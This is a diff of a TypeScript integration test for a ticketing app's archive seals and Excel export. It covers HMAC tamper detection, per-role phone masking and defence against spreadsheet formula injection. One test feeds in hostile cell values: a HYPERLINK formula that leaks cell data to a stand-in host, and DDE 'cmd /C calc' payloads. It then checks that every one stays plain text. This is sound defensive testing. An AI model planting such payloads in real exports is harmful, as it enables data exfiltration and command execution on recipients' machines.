@@ -1,7 +1,8 @@
 import ExcelJS from 'exceljs';
 import type { Response } from 'supertest';
 import { DataSource } from 'typeorm';
-import { chainHash } from '@gridflow/domain';
+import pg from 'pg';
+import { sealTimeline } from '@gridflow/domain';
 import { TicketSealService } from '@gridflow/tickets';
 import {
   createTestApi,
@@ -22,8 +23,11 @@ const HEADERS = [
   '状态',
   '事项编码',
   '事项名称',
+  '诉求内容',
   '网格编码',
   '网格名称',
+  '地址',
+  '联系电话',
   '层级',
   '紧急',
   '提交时间',
@@ -31,10 +35,14 @@ const HEADERS = [
   '是否超期',
   '升级次数',
   '返工次数',
-  '满意度',
   '处理人',
+  '办理结果',
+  '办结时间',
+  '满意度',
+  '回访记录',
 ];
-const HEX64 = /^[0-9a-f]{64}$/;
+/** An HMAC seal under SEAL_KEY (issue 16 item 8). */
+const SEAL = /^v2:[0-9a-f]{64}$/;
 const ISO = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$/;
 const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
 
@@ -55,6 +63,8 @@ function binaryParser(res: Response, callback: (err: Error | null, body: Buffer)
 interface Sheet {
   headers: unknown[];
   rows: Record<string, unknown>[];
+  /** the type of every non-empty cell below the header (exceljs ValueType) */
+  types: ExcelJS.ValueType[];
   /** every cell's text, to look for what must not be there */
   text: string;
 }
@@ -67,12 +77,16 @@ async function readSheet(buffer: Buffer): Promise<Sheet> {
   const headers = (ws.getRow(1).values as unknown[]).slice(1);
   const rows: Record<string, unknown>[] = [];
   const cells: string[] = [];
+  const types: ExcelJS.ValueType[] = [];
   ws.eachRow((row, n) => {
     const values = (row.values as unknown[]).slice(1);
     cells.push(...values.map((v) => String(v)));
-    if (n > 1) rows.push(Object.fromEntries(headers.map((h, i) => [h as string, values[i] ?? null])));
+    if (n > 1) {
+      rows.push(Object.fromEntries(headers.map((h, i) => [h as string, values[i] ?? null])));
+      row.eachCell((cell) => types.push(cell.type));
+    }
   });
-  return { headers, rows, text: cells.join('\n') };
+  return { headers, rows, types, text: cells.join('\n') };
 }
 
 describe('archive seal (归档封存) and the Excel export (工单导出)', () => {
@@ -161,11 +175,11 @@ describe('archive seal (归档封存) and the Excel export (工单导出)', () =
         status: 'archived',
         sealed: true,
         sealedAt: expect.stringMatching(ISO),
-        sealedHash: expect.stringMatching(HEX64),
+        sealedHash: expect.stringMatching(SEAL),
         computedHash: res.body.sealedHash,
         intact: true,
         events: timeline.length,
-        algorithm: 'gridflow-timeline-v1',
+        algorithm: 'gridflow-timeline-hmac-v2',
       });
       expect(timeline.length).toBe(7); // filed + six steps
       // the stored seal is the chain over the stored timeline (same definition as the unit tests)
@@ -179,29 +193,42 @@ describe('archive seal (归档封存) and the Excel export (工单导出)', () =
 
     it('a comment changed behind the append-only trigger shows: intact becomes false', async () => {
       const before = (await integrity(supervisor, archived.id)).body;
-      const tamper = (comment: string) =>
-        // As a superuser would: the trigger off and on again inside one transaction, so no other
-        // session ever sees the table unguarded.
-        db.transaction(async (tx) => {
-          await tx.query(`ALTER TABLE ticket_event DISABLE TRIGGER ticket_event_no_update_delete`);
-          await tx.query(`UPDATE ticket_event SET comment = $2 WHERE ticket_id = $1 AND seq = 2`, [
+      const tamper = async (comment: string) => {
+        // As the tables' owner would (the app's run-time role cannot): the trigger off and on again
+        // inside one transaction, so no other session ever sees the table unguarded.
+        const owner = new pg.Client({ connectionString: api.config.databaseOwnerUrl });
+        await owner.connect();
+        try {
+          await owner.query('BEGIN');
+          await owner.query(`ALTER TABLE ticket_event DISABLE TRIGGER ticket_event_no_update_delete`);
+          await owner.query(`UPDATE ticket_event SET comment = $2 WHERE ticket_id = $1 AND seq = 2`, [
             archived.id,
             comment,
           ]);
-          await tx.query(`ALTER TABLE ticket_event ENABLE TRIGGER ticket_event_no_update_delete`);
-        });
+          await owner.query(`ALTER TABLE ticket_event ENABLE TRIGGER ticket_event_no_update_delete`);
+          await owner.query('COMMIT');
+        } finally {
+          await owner.end();
+        }
+      };
       await tamper('已接单（改）');
       const after = (await integrity(supervisor, archived.id)).body;
       expect(after).toEqual(
         expect.objectContaining({ sealed: true, intact: false, sealedHash: before.sealedHash, events: before.events }),
       );
-      expect(after.computedHash).toMatch(HEX64);
+      expect(after.computedHash).toMatch(SEAL);
       expect(after.computedHash).not.toBe(before.sealedHash);
 
-      // the trigger guards again
-      await expect(
-        db.query(`UPDATE ticket_event SET comment = 'x' WHERE ticket_id = $1`, [archived.id]),
-      ).rejects.toThrow(/append-only/);
+      // the trigger guards again (even the owner)
+      const owner = new pg.Client({ connectionString: api.config.databaseOwnerUrl });
+      await owner.connect();
+      try {
+        await expect(
+          owner.query(`UPDATE ticket_event SET comment = 'x' WHERE ticket_id = $1`, [archived.id]),
+        ).rejects.toThrow(/append-only/);
+      } finally {
+        await owner.end();
+      }
       // the seal stays what it was: sealing again changes nothing
       expect(await api.app.get(TicketSealService).seal(archived.id)).toBe(false);
 
@@ -221,10 +248,10 @@ describe('archive seal (归档封存) and the Excel export (工单导出)', () =
         sealed: false,
         sealedAt: null,
         sealedHash: null,
-        computedHash: expect.stringMatching(HEX64),
+        computedHash: expect.stringMatching(SEAL),
         intact: null,
         events: 2,
-        algorithm: 'gridflow-timeline-v1',
+        algorithm: 'gridflow-timeline-hmac-v2',
       });
       // and cannot be sealed
       expect(await api.app.get(TicketSealService).seal(open.id)).toBe(false);
@@ -247,7 +274,7 @@ describe('archive seal (归档封存) and the Excel export (工单导出)', () =
     it('the sweeper’s repair seals an archived ticket whose seal is missing, with the same hash', async () => {
       const t = await archivedTicket(inScope(), city.grids[1]);
       const [{ sealed_hash: first }] = await db.query(`SELECT sealed_hash FROM ticket WHERE id = $1`, [t.id]);
-      expect(first).toMatch(HEX64);
+      expect(first).toMatch(SEAL);
       // as if the sealer had failed right after the archive
       await db.query(`UPDATE ticket SET sealed_hash = NULL, sealed_at = NULL WHERE id = $1`, [t.id]);
       expect((await integrity(supervisor, t.id)).body).toEqual(
@@ -266,7 +293,7 @@ describe('archive seal (归档封存) and the Excel export (工单导出)', () =
          FROM ticket_event WHERE ticket_id = $1`,
         [t.id],
       );
-      expect(chainHash(events)).toBe(first);
+      expect(sealTimeline(events, api.config.sealKey)).toBe(first);
     });
   });
 
@@ -283,7 +310,11 @@ describe('archive seal (归档封存) and the Excel export (工单导出)', () =
     beforeAll(async () => {
       archivedMine = await archivedTicket(inScope(), city.grids[2]);
       mine = [
-        await fileTicket(worker, city.grids[0], { reporter: { name: '王女士', phone: '13812345678' }, urgent: true }),
+        await fileTicket(worker, city.grids[0], {
+          reporter: { name: '王女士', phone: '13812345678' },
+          urgent: true,
+          location: { address: '幸福里5号楼东侧' },
+        }),
         archivedMine,
       ];
       // township 1: nobody of community 0 / township 0 may see it
@@ -316,7 +347,7 @@ describe('archive seal (归档封存) and the Excel export (工单导出)', () =
       const urgent = sheet.rows.find((r) => r['工单编号'] === mine[0].number)!;
       expect(urgent).toEqual(
         expect.objectContaining({
-          状态: '待接单',
+          状态: '待网格接单',
           事项编码: 'B01',
           事项名称: '邻里纠纷调解',
           网格编码: city.grids[0],
@@ -336,12 +367,101 @@ describe('archive seal (归档封存) and the Excel export (工单导出)', () =
       const [row] = await db.query(`SELECT created_at FROM ticket WHERE id = $1`, [mine[0].id]);
       expect((urgent['提交时间'] as Date).getTime()).toBe(new Date(row.created_at).getTime() + 8 * 3600_000);
 
+      expect(urgent['诉求内容']).toMatch(/^楼道堆放杂物 #\d+$/);
+      expect(urgent['地址']).toBe('幸福里5号楼东侧');
+      expect(urgent['办理结果']).toBeNull();
+      expect(urgent['办结时间']).toBeNull();
+      expect(urgent['回访记录']).toBeNull();
+
       const done = sheet.rows.find((r) => r['工单编号'] === archivedMine.number)!;
       expect(done).toEqual(
-        expect.objectContaining({ 状态: '已归档', 满意度: '满意', 处理人: party.displayName, 紧急: '否' }),
+        expect.objectContaining({
+          状态: '已归档销单',
+          满意度: '满意',
+          处理人: party.displayName,
+          紧急: '否',
+          办理结果: '已清理',
+          回访记录: '督查通过；已电话回访到群众；满意度：满意；回访说明：回访满意',
+          联系电话: null,
+          地址: null,
+        }),
       );
-      // no reporter names or phones, masked or not
-      for (const secret of ['王女士', '李先生', '13812345678', '138****5678']) expect(sheet.text).not.toContain(secret);
+      // 办结时间: the 办结 event's time, as Shanghai wall-clock time
+      const [resolved] = await db.query(`SELECT at FROM ticket_event WHERE ticket_id = $1 AND type = 'resolved'`, [
+        archivedMine.id,
+      ]);
+      expect((done['办结时间'] as Date).getTime()).toBe(new Date(resolved.at).getTime() + 8 * 3600_000);
+      // A dispatcher may not see the phone in full on the ticket, so not in the export either:
+      // the mask, and never a reporter's name
+      expect(urgent['联系电话']).toBe('138****5678');
+      for (const secret of ['王女士', '李先生', '13812345678', '13987654321']) expect(sheet.text).not.toContain(secret);
+    });
+
+    it('the phone is masked per role as on the ticket: in full for the supervisor, masked for admin and dispatchers', async () => {
+      const q = `?from=${today}&to=${today}`;
+      const phoneOf = async (user: TestUser, number: string) => {
+        const sheet = await readSheet((await exportAs(user, q)).body);
+        return { sheet, phone: sheet.rows.find((r) => r['工单编号'] === number)?.['联系电话'] };
+      };
+      // the ticket detail is the reference: same number in the sheet as on GET /tickets/:id
+      const detail = async (user: TestUser, id: string) =>
+        must(await user.auth(api.http().get(`/api/v1/tickets/${id}`)), 'get').reporter.phone;
+
+      const bySupervisor = await phoneOf(supervisor, mine[0].number);
+      expect(bySupervisor.phone).toBe('13812345678');
+      expect(await detail(supervisor, mine[0].id)).toBe('13812345678');
+      // out of the supervisor's scope: neither the ticket nor its number
+      expect(bySupervisor.sheet.text).not.toContain('13987654321');
+      expect(bySupervisor.sheet.text).not.toContain('139****4321');
+
+      const byAdmin = await phoneOf(admin, mine[0].number);
+      expect(byAdmin.phone).toBe('138****5678');
+      expect(await detail(admin, mine[0].id)).toBe('138****5678');
+      expect(byAdmin.sheet.rows.find((r) => r['工单编号'] === other.number)?.['联系电话']).toBe('139****4321');
+      for (const full of ['13812345678', '13987654321']) expect(byAdmin.sheet.text).not.toContain(full);
+
+      const byOut = await phoneOf(outDispatcher, other.number);
+      expect(byOut.phone).toBe('139****4321');
+      for (const secret of ['13987654321', '13812345678', '138****5678'])
+        expect(byOut.sheet.text).not.toContain(secret);
+    });
+
+    it('a hostile description (4,000 characters, a formula) and formula-like texts stay text in every cell', async () => {
+      const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")';
+      const t = await fileTicket(dispatcher, city.grids[1], {
+        description: "-2+3+cmd|' /C calc'!A0",
+        location: { address: "@SUM(1+1)*cmd|' /C calc'!A0" },
+        reporter: { phone: '13700001111' },
+      });
+      // Open311 takes descriptions of up to 4,000 characters: as such a request would be stored.
+      const long = formula + '楼'.repeat(4000 - formula.length);
+      await db.query(`UPDATE ticket SET description = $2 WHERE id = $1`, [t.id, long]);
+      for (const [user, action, body] of [
+        [dispatcher, 'accept', {}],
+        [dispatcher, 'dispatch', { assigneeId: party.id }],
+        [party, 'claim', {}],
+        [party, 'resolve', { result: '+已清理=1+1' }],
+        [supervisor, 'verify', { outcome: 'rework', callbackReached: false, callbackNote: '@未接通' }],
+      ] as [TestUser, string, object][]) {
+        must(await act(user, t.id, action, body), action);
+      }
+      const res = await exportAs(supervisor, `?from=${today}&to=${today}&gridCode=${city.grids[1]}`);
+      expect(res.status).toBe(200);
+      const sheet = await readSheet(res.body);
+      const row = sheet.rows.find((r) => r['工单编号'] === t.number)!;
+      expect(row['诉求内容']).toBe(`'${long}`);
+      expect((row['诉求内容'] as string).length).toBe(4001);
+      expect(row['地址']).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+      expect(row['办理结果']).toBe("'+已清理=1+1");
+      expect(row['回访记录']).toBe('督查返工；未回访到群众；回访说明：@未接通');
+      expect(row['状态']).toBe('待党员接单');
+      expect(row['联系电话']).toBe('13700001111');
+      // no cell anywhere is a formula (or a link): strings, numbers and dates only
+      const { String: text, Number: num, Date: date } = ExcelJS.ValueType;
+      expect(sheet.types.filter((ty) => ![text, num, date].includes(ty))).toEqual([]);
+      expect(sheet.rows.every((r) => Object.values(r).every((v) => typeof v !== 'string' || !/^[=+\-@]/.test(v)))).toBe(
+        true,
+      );
     });
 
     it('scope follows the caller: township supervisor, city admin, another community', async () => {
@@ -362,10 +482,10 @@ describe('archive seal (归档封存) and the Excel export (工单导出)', () =
       const sheet = async (q: string) => readSheet((await exportAs(dispatcher, q)).body);
       const archived = await sheet(`?from=${today}&to=${today}&status=archived`);
       expect(archived.rows.map((r) => r['工单编号'])).toContain(archivedMine.number);
-      expect(archived.rows.every((r) => r['状态'] === '已归档')).toBe(true);
+      expect(archived.rows.every((r) => r['状态'] === '已归档销单')).toBe(true);
       const open = await sheet(`?status=open&gridCode=${city.grids[0]}`); // default: the last 30 days
       expect(open.rows.map((r) => r['工单编号'])).toContain(mine[0].number);
-      expect(open.rows.every((r) => r['网格编码'] === city.grids[0] && r['状态'] !== '已归档')).toBe(true);
+      expect(open.rows.every((r) => r['网格编码'] === city.grids[0] && r['状态'] !== '已归档销单')).toBe(true);
       expect((await sheet(`?itemCode=ZZ99`)).rows).toEqual([]);
       const empty = await sheet(`?from=2020-01-01&to=2020-01-31`);
       expect(empty.headers).toEqual(HEADERS);
